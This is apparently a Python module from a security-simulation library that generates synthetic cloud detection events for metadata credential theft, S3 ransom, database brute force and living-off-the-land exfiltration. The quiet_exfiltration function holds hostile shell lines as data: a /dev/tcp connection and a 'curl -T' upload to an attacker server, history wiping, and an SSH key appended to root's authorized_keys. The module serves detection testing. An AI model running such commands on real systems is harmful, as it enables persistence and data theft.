"""Attacks that are after data: by metadata, by ransom, by databases."""

from __future__ import annotations

from tracehound.intrusions.chance import Dice
from tracehound.intrusions.estate.accounts import Place
from tracehound.intrusions.estate.people import Credential
from tracehound.intrusions.scene import Scene
from tracehound.intrusions.stories import moves
from tracehound.intrusions.stories.identities import anomaly
from tracehound.intrusions.wire import calls, network, runtime


def metadata_theft(scene: Scene, begin: float) -> None:
    """A web server fetches what it is told to: the keys of its role, which list and take buckets elsewhere.

    Sources: the Capital One breach (US v. Thompson, 2019); Mandiant, "Old services, new tricks: cloud
    metadata abuse by UNC2903" (2022); ATT&CK T1190, T1552.005, T1530, T1619.
    """
    plot = scene.open("metadata_theft", "role keys stolen", begin)
    dice, adversary = plot.dice, plot.adversary
    host = scene.organization.host(dice, purpose="web")
    agent = adversary.agent
    keys = moves.keys_of(plot, host)
    # The theft itself is an ordinary request; only a rebinding name is seen.
    was_seen = dice.happens(0.4)
    if was_seen:
        plot.entry(
            network.name_query("UnauthorizedAccess:EC2/MetadataDNSRebind", host, f"m.{adversary.domain}"),
            dice.number(1, 9),
        )
        plot.wait()
    where = dice.choice(("OutsideAWS", "OutsideAWS", "OutsideAWS", "InsideAWS"))
    kind = f"UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.{where}"
    inside = scene.organization.internet.address("amazon", dice)
    caller = inside if where == "InsideAWS" else adversary.server
    first = calls.call(kind, keys, caller, "ListBuckets", "s3", agent)
    found = plot.step(first, dice.number(1, 20)) if was_seen else plot.entry(first, dice.number(1, 20))
    plot.lasting(found, dice.spread(1, 70))
    for _ in range(dice.choice((1, 1, 2, 4))):
        remote = adversary.address if dice.happens(0.4) else adversary.server
        moves.take_objects(plot, keys, remote, agent, dice.happens(0.6))
    if dice.happens(0.3):
        plot.wait()
        anomaly(
            plot,
            "Discovery",
            keys,
            adversary.server,
            agent,
            [("DescribeSnapshots", "ec2"), ("ListRoles", "iam")],
        )


def bucket_ransom(scene: Scene, begin: float) -> None:
    """Objects are re-encrypted or deleted with stolen keys, access logs off first, and a note is left.

    Sources: Halcyon on Codefinger (SSE-C, January 2025) and AWS's guidance on it; Rhysida and others in
    CISA AA23-319A; ATT&CK T1486, T1485, T1562.008.
    """
    plot = scene.open("bucket_ransom", "ransom", begin)
    dice, adversary = plot.dice, plot.adversary
    person = scene.organization.person(dice, has_user=True)
    keys, remote, agent = person.long_key, adversary.server, adversary.agent
    buckets = [scene.organization.bucket(dice, person.place) for _ in range(dice.number(1, 7))]
    kind = dice.choice(("Discovery:S3/AnomalousBehavior", "Discovery:S3/MaliciousIPCaller"))
    plot.entry(calls.bucket_call(kind, keys, remote, "ListBuckets", agent, buckets[:2]), dice.number(1, 20))
    if dice.happens(0.4):
        plot.wait()
        anomaly(plot, "Discovery", keys, remote, agent, [("ListAccessKeys", "iam"), ("GetUser", "iam")])
    for bucket in buckets:
        if dice.happens(0.3):
            plot.wait()
            plot.step(
                calls.bucket_call(
                    "Stealth:S3/ServerAccessLoggingDisabled",
                    keys,
                    remote,
                    "PutBucketLogging",
                    agent,
                    [bucket],
                )
            )
        if dice.happens(0.5):
            plot.wait()
            plot.lasting(
                plot.loss(
                    calls.bucket_call(
                        "Exfiltration:S3/AnomalousBehavior", keys, remote, "GetObject", agent, [bucket]
                    ),
                    dice.number(10, 9000),
                ),
                5,
            )
        plot.wait()
        ending, operation = dice.choice(
            (
                ("Write", "CopyObject"),
                ("Write", "PutObject"),
                ("Delete", "DeleteObjects"),
                ("Permission", "PutBucketPolicy"),
            )
        )
        plot.lasting(
            plot.loss(
                calls.bucket_call(
                    f"Impact:S3/AnomalousBehavior.{ending}",
                    keys,
                    remote,
                    operation,
                    agent,
                    [bucket],
                    ("README-RESTORE.txt",),
                ),
                dice.number(1, 5000),
            ),
            6,
            3,
        )
    if dice.happens(0.35):
        plot.sequenced(
            "AttackSequence:S3/CompromisedData", buckets[0].name, f"arn:aws:s3:::{buckets[0].name}"
        )


def database_break_in(scene: Scene, begin: float) -> None:
    """A database password is guessed; the dump holds an AWS key, which is used from the same server.

    Sources: ATT&CK T1110.001, T1213.006, T1552.001; GuardDuty's documentation of RDS Protection; reports
    on ransom notes in PostgreSQL (Imperva, 2023).
    """
    plot = scene.open("database_break_in", "database", begin)
    dice, adversary = plot.dice, plot.adversary
    database = scene.organization.database(dice)
    user, remote = dice.choice(("postgres", "admin", "app", "root")), adversary.server
    first = dice.choice(
        (
            "CredentialAccess:RDS/AnomalousBehavior.FailedLogin",
            "CredentialAccess:RDS/MaliciousIPCaller.FailedLogin",
        )
    )
    plot.entry(network.login(first, database, remote, user, dice.number(20, 4000), 0), dice.number(1, 90))
    plot.wait()
    second = dice.choice(
        (
            "CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce",
            "CredentialAccess:RDS/MaliciousIPCaller.SuccessfulLogin",
        )
    )
    plot.lasting(plot.step(network.login(second, database, remote, user, dice.number(20, 900), 1)), 20)
    if dice.happens(0.4):
        plot.wait()
        plot.step(
            network.login(
                "CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin",
                database,
                adversary.address,
                user,
                0,
                2,
                "pg_dump",
            )
        )
    if dice.happens(0.7):
        keys = _found_key(scene, dice, database.place)
        plot.wait(600, 200_000)
        anomaly(
            plot,
            "Discovery",
            keys,
            remote,
            adversary.agent,
            [("ListBuckets", "s3"), ("GetCallerIdentity", "sts")],
        )
        moves.take_objects(plot, keys, remote, adversary.agent, dice.happens(0.5))


def _found_key(scene: Scene, dice: Dice, place: Place) -> Credential:
    return scene.organization.person(dice, place, has_user=True).long_key


def quiet_exfiltration(scene: Scene, begin: float) -> None:
    """Only what is there: shells, `curl`, `tar`, the AWS command line of the image. No file is brought.

    Sources: ATT&CK T1059.004, T1105, T1567.002, T1613; CISA AA24-038A on living off the land; Sysdig on
    SSH-Snake and other tools that use what is installed.
    """
    plot = scene.open("quiet_exfiltration", "living off the land", begin)
    dice, organization = plot.dice, plot.organization
    machine = organization.host(dice) if dice.happens(0.4) else organization.service(dice).box(dice, begin)
    above = machine.service("sshd") if not hasattr(machine, "application") else machine.application
    child = moves.shell(plot, machine, above)
    plot.entry(runtime.command("Discovery", machine, child, "whoami; hostname; ip a; cat /etc/hosts"))
    lines = [
        ("Discovery", "aws sts get-caller-identity; aws s3 ls", "aws"),
        ("Execution", "tar czf - /srv /var/lib/app | split -b 50m - /tmp/p.", "tar"),
        ("DefenseEvasion", "unset HISTFILE; history -c", "bash"),
        ("Persistence", "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys", "bash"),
        ("PrivilegeEscalation", "sudo -l; sudo -u#-1 /bin/sh", "sudo"),
        ("Execution", f"bash -c 'exec 3<>/dev/tcp/{plot.adversary.server.ip}/443; cat <&3'", "bash"),
    ]
    for tactic, line, name in dice.some(lines, dice.choice((2, 3, 4, 5))):
        plot.wait()
        child = child if dice.happens(0.7) else moves.shell(plot, machine, above)
        process = moves.run(plot, machine, machine.tool(name), child)
        plot.step(runtime.command(tactic, machine, process, line))
    plot.wait()
    process = moves.run(plot, machine, machine.tool("curl"), child)
    if dice.happens(0.5):
        kind = "Impact:Runtime/AbusedDomainRequest.Reputation"
        plot.loss(
            runtime.name_query(
                kind, machine, process, dice.choice(("transfer.sh", "file.io", "webhook.site"))
            )
        )
    else:
        plot.loss(
            runtime.command(
                "Execution", machine, process, f"curl -T /tmp/p.aa http://{plot.adversary.server.ip}/", 5.0
            )
        )
    if dice.happens(0.5):
        # The keys of the machine, used on the machine: the address is its own.
        keys = moves.keys_of(plot, machine)
        remote = organization.exits[0]
        moves.take_objects(
            plot, keys, remote, "aws-cli/2.15.30 Python/3.11.8 Linux/6.1 exe/x86_64", dice.happens(0.5)
        )
